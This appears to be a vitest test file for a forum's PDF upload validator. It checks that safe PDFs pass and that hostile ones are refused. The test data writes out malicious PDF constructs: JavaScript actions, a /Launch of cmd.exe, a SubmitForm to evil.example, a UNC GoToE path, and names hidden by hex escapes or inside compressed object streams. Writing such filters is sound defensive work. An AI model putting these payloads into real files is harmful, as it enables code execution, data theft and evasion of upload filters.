import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { isPdf } from '../../../src/features/forum/pdf.ts';

/** A file of one page; its catalogue and its other objects say more. */
const pdf = (catalogue = '', objects = '') =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${catalogue} >>\nendobj\n2 0 obj\n<< /Type /Page >>\nendobj\n${objects}\n%%EOF\n`,
    'latin1',
  );

/** Objects with their numbers as programs pack them. */
const packed = (objects: Record<number, string>, more = '/Filter /FlateDecode', pack = deflateSync) => {
  const bodies = Object.values(objects).map((body) => `${body}\n`);
  const places = Object.keys(objects).map((number, index) => `${number} ${bodies.slice(0, index).join('').length}`);
  const head = `${places.join(' ')}\n`;
  const bytes = pack(Buffer.from(head + bodies.join('')));
  const words = `/Type /ObjStm /N ${places.length} /First ${head.length} /Length ${bytes.length} ${more}`;
  return `9 0 obj\n<< ${words} >>\nstream\n${bytes.toString('latin1')}\nendstream\nendobj`;
};
const inNumbers = (name: string) => name.replace(/./g, (letter) => `#${letter.charCodeAt(0).toString(16)}`);
const plain = ((bytes: Buffer) => bytes) as typeof deflateSync;
const crossed = ((bytes: Buffer) => deflateSync(bytes.toString().replace('5 0 6 4', '5 4 6 0'))) as typeof deflateSync;

test.each([
  ['with nothing but a page', pdf()],
  ['with a little before', Buffer.from(`\n${pdf().toString()}`)],
  ['that opens on its first page', pdf('/OpenAction [2 0 R /XYZ null null 0]')],
  ['that turns to a page', pdf('/OpenAction 5 0 R', '5 0 obj\n<< /S /GoTo /D [2 0 R /Fit] >>\nendobj')],
  [
    'that turns to a page, packed',
    pdf('', packed({ 5: '<< /S /GoTo /D [2 0 R /Fit] >>', 6: '<< /OpenAction 5 0 R >>' })),
  ],
  ['with links', pdf('', '5 0 obj\n<< /S /URI /URI (https://example.org) >>\nendobj')],
  ['with packed objects', pdf('', packed({ 5: '<< /Type /Font >>', 6: '[1 2]' }))],
  ['with letters of a typeface', pdf('', '5 0 obj\n<< /FontName /AAAAAA+Source /JS#20 1 >>\nendobj')],
])('a PDF %s is one', (_, bytes) => {
  expect(isPdf(bytes)).toBe(true);
});

test.each([
  ['runs a script', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
  ['hides the name of a script', pdf('', '5 0 obj\n<< /S /J#61v#61Script /JS 6 0 R >>\nendobj')],
  ['hides it whole', pdf('', `5 0 obj\n<< /S /${inNumbers('JavaScript')} >>\nendobj`)],
  ['starts a program', pdf('', '5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj')],
  ['holds files', pdf('/Names << /EmbeddedFiles 5 0 R >>')],
  ['holds one of them', pdf('', '5 0 obj\n<< /Type /Embedded#46ile >>\nendobj')],
  ['opens a file on another computer', pdf('', '5 0 obj\n<< /S /GoToE /F (\\\\\\\\evil\\\\x) >>\nendobj')],
  ['sends a form away', pdf('', '5 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj')],
  ['has a form with scripts', pdf('/AcroForm << /XFA [5 0 R] >>')],
  ['does something on each page', pdf('', '5 0 obj\n<< /AA % \n << /O 6 0 R >> >>\nendobj')],
  ['opens an address', pdf('/OpenAction << /S /URI /URI (https://evil.example) >>')],
  ['opens an address by way of another object', pdf('/OpenAction 5 0 R', '5 0 obj\n<< /S /URI /URI (x) >>\nendobj')],
  [
    'turns to a page and then opens an address',
    pdf('/OpenAction 5 0 R', '5 0 obj\n<< /S /GoTo /D [2 0 R /Fit] /Next 6 0 R >>\nendobj'),
  ],
  ['says so with another spelling', pdf('/Open#41ction << /S /URI /URI (x) >>')],
  ['points to nothing when it is opened', pdf('/OpenAction 77 0 R')],
  [
    'opens one thing here and another there',
    pdf('/OpenAction 5 0 R', '5 0 obj\n[2 0 R /Fit]\nendobj\n5 0 obj\n<< /S /URI /URI (x) >>\nendobj'),
  ],
])('a PDF that %s is refused', (_, bytes) => {
  expect(isPdf(bytes)).toBe(false);
});

const SCRIPT = { 5: '<< /S /JavaScript /JS (x) >>' };
test.each([
  ['a script', packed(SCRIPT)],
  ['a script that is not squeezed', packed(SCRIPT, '', plain)],
  ['something that cannot be unpacked', packed(SCRIPT, '/Filter /FlateDecode', plain)],
  ['something in another way', packed(SCRIPT, '/Filter /LZWDecode')],
  ['something behind a filter that stands elsewhere', packed(SCRIPT, '/Filter 7 0 R')],
  ['something in two steps', packed(SCRIPT, '/Filter [/ASCIIHexDecode /FlateDecode]')],
  ['something that is reckoned further', packed(SCRIPT, '/Filter /FlateDecode /DecodeParms 7 0 R')],
  ['something beside a text that looks like the end', packed(SCRIPT, '/X (>>\nstream\n) /Filter /FlateDecode')],
  ['something under a hidden name', packed(SCRIPT).replace('ObjStm', 'Obj#53tm')],
  ['objects that lie over one another', packed({ 5: '[1]', 6: '[2]' }, undefined, crossed)],
  ['more than a flyer has', packed({ 5: ' '.repeat(20 * 1024 * 1024) })],
])('a PDF that packs %s is refused', (_, objects) => {
  expect(isPdf(pdf('', objects))).toBe(false);
});

test.each([
  ['something with a PDF inside', Buffer.concat([Buffer.from('GIF89a'), pdf()])],
  ['half a PDF', pdf().subarray(0, 60)],
  ['nothing', Buffer.from('')],
])('%s is none', (_, bytes) => {
  expect(isPdf(bytes)).toBe(false);
});

test.each([
  ['names that open', '/OpenAction 5 0 R '],
  ['beginnings of objects', '1 0 obj << '],
  ['beginnings of streams', '/ObjStm >> stream\n'],
  ['digits', '12345678'],
  ['comments', '/AA % '],
  ['comments in comments', '%/AA\n'],
])('8 MB of %s take no longer than three seconds', (_, text) => {
  const bytes = pdf('', text.repeat((8 * 1024 * 1024) / text.length));
  const before = performance.now();
  isPdf(bytes);
  expect(performance.now() - before).toBeLessThan(3_000);
});
